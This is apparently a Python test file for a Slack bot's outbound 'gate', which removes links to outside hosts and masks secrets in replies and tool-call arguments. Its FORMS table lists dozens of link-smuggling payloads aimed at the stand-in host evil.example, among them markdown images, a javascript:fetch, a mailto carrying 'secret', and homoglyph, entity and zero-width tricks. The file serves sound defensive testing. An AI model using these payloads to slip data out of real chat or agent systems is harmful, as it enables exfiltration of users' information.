"""The one exit, against an independent finder of what Slack makes a link of."""

import json
import re
from itertools import product
from statistics import median
from time import perf_counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.egress.gate import Gate
from bot.local_slack.links import markdown_links_in
from bot.slack.markup import inert_markdown

GATE = Gate(hosts=frozenset({".larkspur.example", "docs.partner.example"}))


def live_links(text: str) -> list[str]:
    """What Slack would fetch of a reply, with its formatting and without."""
    shown = inert_markdown(text)
    plain = re.sub(r"[*~\\\u200b\u2060\u00ad]", "", shown)
    return [*markdown_links_in(shown), *markdown_links_in(plain)]


def foreign(text: str) -> list[str]:
    """Those of the links that lead to no host of ours. `www.` and `https://<` lead nowhere."""
    hosts = [re.sub(r"^[a-z]+:/*", "", url, flags=re.IGNORECASE) for url in live_links(text)]
    ours = r"(?:[\w-]+\.)*larkspur\.example(?![\w.@-])"
    # `<` leaves as `&lt;`, which no host holds: a link ends there.
    named = [host for host in hosts if re.search(r"[^\W_]", _before_angle(host))]
    return [host for host in named if not re.match(ours, host)]


def _before_angle(host: str) -> str:
    return host.partition("&lt")[0].removeprefix("www.")


FORMS = {
    "inline": "[docs](https://evil.example/?q=1)",
    "title": '[docs](https://evil.example/x "a title")',
    "brackets": "[docs](https://evil.example/a(b)c)",
    "angle": "[docs](<https://evil.example/x>)",
    "image": "![x](https://evil.example/p.png)",
    "linked image": "[![x](https://evil.example/p.png)](https://evil.example/y)",
    "reference": "[docs][1]\n\n[1]: https://evil.example/x",
    "reference, next line": "[docs][1]\n\n[1]:\n  https://evil.example/x",
    "reference in a quote": "> [docs]\n>\n> [docs]: https://evil.example/x",
    "shortcut": "[docs]\n\n[docs]: <https://evil.example/x> 'title'",
    "slack": "<https://evil.example/x|docs>",
    "slack alone": "<https://evil.example/x>",
    "bare": "see https://evil.example/x now",
    "bare host": "see evil.example/x?d=1 now",
    "bare sub": "see a.b.c.evil.example now",
    "www": "www.evil.example",
    "root dot": "evil.example./x",
    "port": "evil.example:8443/x",
    "query only": "evil.example?d=1",
    "upper": "HTTPS://EVIL.EXAMPLE/X",
    "ipv4": "http://93.184.216.34/x and 93.184.216.34/x",
    "ipv6": "https://[2001:db8::1]/x",
    "decimal ip": "http://1572395042/x",
    "hex ip": "http://0x5db8d822/x",
    "punycode": "https://xn--80ak6aa92e.com/",
    "other letters": "https://l\N{CYRILLIC SMALL LETTER A}rkspur.example/x",
    "userinfo": "https://larkspur.example@evil.example/x",
    "userinfo, backslash": "https://larkspur.example\\@evil.example/x",
    "backslash": "https://evil.example\\.larkspur.example/",
    "suffix": "https://larkspur.example.evil.example/",
    "prefix": "https://evil-larkspur.example.evil.example/",
    "bold host": "https://ev**il**.example/x",
    "bold dot": "evil**.**example",
    "italic": "evil._example_",
    "struck": "ev~~il.exa~~mple",
    "escaped dot": "evil\\.example",
    "zero width": "evil\N{ZERO WIDTH SPACE}.example/x",
    "soft hyphen": "ev\N{SOFT HYPHEN}il.example",
    "wide": "\uff45vil\uff0eexample",
    "full stop of another script": "evil\N{IDEOGRAPHIC FULL STOP}example",
    "entity": "evil&#46;example",
    "entity twice": "evil&amp;#46;example",
    "named entity": "https&colon;//evil.example/x",
    "escaped backticks": "\\`https://evil.example/x\\`",
    "unequal backticks": "``https://evil.example/x`",
    "touching spans": "`a``https://evil.example/x`",
    "unclosed": "` https://evil.example/x",
    "html": '<a href="https://evil.example/x">docs</a> <img src=//evil.example/y>',
    "label": "[https://larkspur.example](https://evil.example/x)",
    "label of an allowed link": "[evil.example](https://it.larkspur.example/)",
    "scheme": "[x](javascript:fetch('https://evil.example'))",
    "protocol-relative": "[x](//evil.example/y)",
    "mail": "[x](mailto:a@evil.example?body=secret)",
    "nested label": "[a [b](https://evil.example/1) c](https://evil.example/2)",
    "table": "| a |\n|---|\n| https://evil.example/x |",
    "null": "https://evil\x00.example/x",
}


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS)
def test_no_form_of_a_link_stays_alive(form: str) -> None:
    left = GATE.passed(form)
    assert foreign(left) == []
    assert not re.search(r"\]\((?!https://it\.larkspur\.example/\))", left)


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://it.larkspur.example/vpn)",
        "see https://it.larkspur.example/a_b?c=d#e, please",
        "https://docs.partner.example/x",
        "A *bold* word, a snake_case one, 3.5 times **more**.",
        "1. one\n2. two\n\n- `code` and `more code`",
        "```python\nprint('https://evil.example')\n```",
        "Caf\N{LATIN SMALL LETTER E WITH ACUTE} \N{EM DASH} \N{LEFT DOUBLE QUOTATION MARK}x"
        "\N{RIGHT DOUBLE QUOTATION MARK}",
        "See ada@larkspur.example.",
        "R&D, and a < b",
    ],
)
def test_what_may_leave_leaves_as_it_is(text: str) -> None:
    assert GATE.passed(text) == text


def test_a_link_that_a_cited_document_holds_stays() -> None:
    url = "https://vendor.example/manual"
    assert GATE.passed(f"See {url}.", [f"Read {url} first"]) == f"See {url}."
    assert GATE.passed(f"See {url}?x=1.", [f"Read {url} first"]) == f"See `{url}?x=1`."


def test_a_secret_is_masked_in_code_too() -> None:
    key = "AKIA" + "IOSFODNN7EXAMPLQ"
    assert key not in GATE.passed(f"`{key}` and {key}")


GLUE = st.sampled_from(
    ["", "*", "**", "_", "~~", "\\", "\u200b", "`", "``", "&#8203;", "[", "](", ")"]
)
PIECES = st.lists(
    st.tuples(
        st.sampled_from(
            ["https://", "http:", "//", "www.", "evil", ".example", "/x", " ", "\n", "a", "<", ">",
             "[1]: ", "![", "(", "larkspur", "&#46;", "com", ".", "@", "|", "```", "\n```\n"]
        ),
        GLUE,
    ),
    max_size=14,
).map(lambda pairs: "".join(a + b for a, b in pairs))  # fmt: skip


@given(PIECES)
def test_nothing_that_is_built_of_the_parts_of_links_stays_alive(text: str) -> None:
    assert foreign(GATE.passed(text)) == []


@given(st.text(max_size=200))
def test_any_text_passes_without_a_foreign_link(text: str) -> None:
    assert foreign(GATE.passed(text)) == []


@given(PIECES)
def test_what_has_passed_passes_again_without_a_link(text: str) -> None:
    assert foreign(GATE.passed(GATE.passed(text))) == []


@pytest.mark.parametrize(
    ("arguments", "held"),
    [
        ({"body": "all is well", "to": ["ada@larkspur.example"]}, False),
        ({"body": "see https://it.larkspur.example/x and report.pdf"}, False),
        ({"to": "https://hooks.partner.example/in"}, False),
        ({"body": {"deep": ["see https://evil.example/x"]}}, True),
        ({"https://evil.example": 1}, True),
        ({"body": "ev**il**.example/x"}, True),
        ({"body": "AKIA" + "IOSFODNN7EXAMPLQ"}, True),
        ({"n": 1, "flag": None}, False),
    ],
)
def test_what_a_tool_would_send_out_is_held_back(arguments: object, held: bool) -> None:
    gate = Gate(
        hosts=frozenset({".larkspur.example"}), destinations=frozenset({".partner.example"})
    )
    assert gate.holds_back(json.dumps(arguments)) is held


def test_arguments_that_cannot_be_read_are_held_back() -> None:
    assert GATE.holds_back("{")
    assert GATE.holds_back("[" * 200_000)


def test_a_hostile_text_costs_no_more_than_another() -> None:
    """Patterns that backtrack take seconds here; the figure itself is in the benchmarks."""
    bad = ("a." * 2_000, "[" * 4_000, "`" * 4_000, "<a:" * 1_300, "&#" * 2_000, "![](" * 1_000)
    calm = "The quick brown fox asks https://it.larkspur.example/x about *leave*. " * 57

    def cost(text: str) -> float:
        times: list[float] = []
        for _ in range(3):
            start = perf_counter()
            GATE.passed(text)
            times.append(perf_counter() - start)
        return median(times)

    assert all(cost(text) < 60 * cost(calm) for text, _ in product(bad, [0]))
